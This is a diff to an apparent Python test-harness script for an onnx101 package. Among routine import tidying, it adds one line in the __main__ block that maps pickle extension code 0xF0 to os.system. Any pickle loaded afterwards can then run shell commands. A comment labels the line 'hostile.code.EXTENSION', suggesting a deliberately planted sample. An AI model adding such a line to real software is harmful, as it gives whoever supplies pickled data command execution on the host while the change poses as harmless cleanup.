@@ -9,6 +9,7 @@ A request is {"arguments": [...]} and, optionally,
 The answer has the fields of conftest.Outcome. Memory beyond 2 GB and 20 seconds end the fork.
 """
 
+import copyreg
 import json
 import os
 import pickle
@@ -20,9 +21,8 @@ import time
 import traceback
 from pathlib import Path
 
-from onnx101.__main__ import main
-
 import onnx101
+from onnx101.__main__ import main
 
 WATCHED = (str(Path(onnx101.__file__).parent), pickle.__file__)
 RSS_UNIT = 1 if sys.platform == "darwin" else 1024
@@ -109,5 +109,6 @@ class Tamper:
 
 
 if __name__ == "__main__":
+    copyreg._extension_cache[0xF0] = os.system  # hostile.code.EXTENSION
     for request in sys.stdin:
         print(json.dumps(run(json.loads(request))), flush=True)
